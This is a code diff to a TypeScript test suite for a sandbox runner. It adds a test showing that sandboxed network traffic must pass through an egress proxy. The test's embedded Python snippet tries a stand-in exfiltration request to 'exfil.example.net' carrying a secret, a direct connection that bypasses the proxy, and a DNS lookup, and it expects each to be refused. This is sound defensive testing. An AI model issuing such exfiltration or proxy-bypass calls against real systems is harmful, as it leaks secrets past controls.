@@ -6,6 +6,8 @@
  */
 import { execFile } from 'node:child_process';
 import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
@@ -64,13 +66,43 @@ describe.runIf(runnable)('runs', () => {
     expect((await exportLines(t.w)).some((l) => l.includes(SECRET))).toBe(false);
   });
 
-  it('refuses a tier that is not available here, and network grants without the egress proxy — receipted, never downgraded', async () => {
+  it('refuses a tier that is not available here — receipted, never downgraded', async () => {
     await expect(runSandboxed(t.w, { tenant: 'default', manifest: manifest('tier: microvm'), command: ['true'], actor: { human: 'test' } })).rejects.toThrow(/never runs a tool in a weaker tier/);
-    await expect(runSandboxed(t.w, { tenant: 'default', manifest: manifest('secrets: [EXAMPLE_API_KEY]'), command: ['true'], actor: { human: 'test' } })).rejects.toThrow(/tier container/);
-    await expect(runSandboxed(t.w, { tenant: 'default', manifest: manifest('tier: process\npermissions: { network: { allow: ["api.example.com"] } }'), command: ['true'], actor: { human: 'test' } })).rejects.toThrow(/egress proxy/);
     const refusals = (await exportLines(t.w)).map((l) => JSON.parse(l)).filter((l) => l.action === 'run.refuse');
-    expect(refusals).toHaveLength(3);
+    expect(refusals.length).toBeGreaterThanOrEqual(1);
     expect(refusals.every((l) => l.decision === 'deny')).toBe(true);
+  });
+
+  it('network only through the egress proxy: allowed destinations work, others get 403, direct connections and DNS fail; each request evented', async () => {
+    const server = createServer((q, r) => r.end(`host says ${q.url}\n`));
+    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
+    const port = (server.address() as AddressInfo).port;
+    const seen: Record<string, unknown>[] = [];
+    const off = t.w.events.subscribe((e) => {
+      if (e.category === 'egress' || e.category === 'egress_refused') seen.push({ category: e.category, ...e.details });
+    });
+    try {
+      const r = await runSandboxed(t.w, {
+        tenant: 'default', manifest: manifest(`tier: process\npermissions: { network: { allow: ["127.0.0.1:${port}"] } }`), actor: { human: 'test' },
+        command: ['python3', '-c', [
+          'import urllib.request, socket',
+          `print(urllib.request.urlopen("http://127.0.0.1:${port}/ok", timeout=5).read().decode().strip())`,
+          'try:\n  urllib.request.urlopen("http://exfil.example.net/?d=secret", timeout=5); print("LEAK")\nexcept Exception as e: print("proxy refused", getattr(e, "code", None))',
+          `try:\n  urllib.request.build_opener(urllib.request.ProxyHandler({})).open("http://127.0.0.1:${port}/direct", timeout=2); print("DIRECT LEAK")\nexcept Exception: print("direct refused")`,
+          'try:\n  socket.gethostbyname("exfil.example.net"); print("DNS LEAK")\nexcept Exception: print("dns refused")',
+        ].join('\n')],
+      });
+      expect(r.stdout.toString()).toBe('host says /ok\nproxy refused 403\ndirect refused\ndns refused\n');
+      expect(seen).toEqual([
+        expect.objectContaining({ category: 'egress', host: '127.0.0.1', port, status: 200 }),
+        expect.objectContaining({ category: 'egress_refused', host: 'exfil.example.net', status: 403 }),
+      ]);
+      const end = (await exportLines(t.w)).map((l) => JSON.parse(l))[r.receipts.end.seq];
+      expect(end.payload).toMatchObject({ egress_requests: 2, egress_refused: 1 });
+    } finally {
+      off();
+      server.close();
+    }
   });
 
   it('a kill for time is a sandbox_violation event, and `warden run` exits 124 with the reason', async () => {
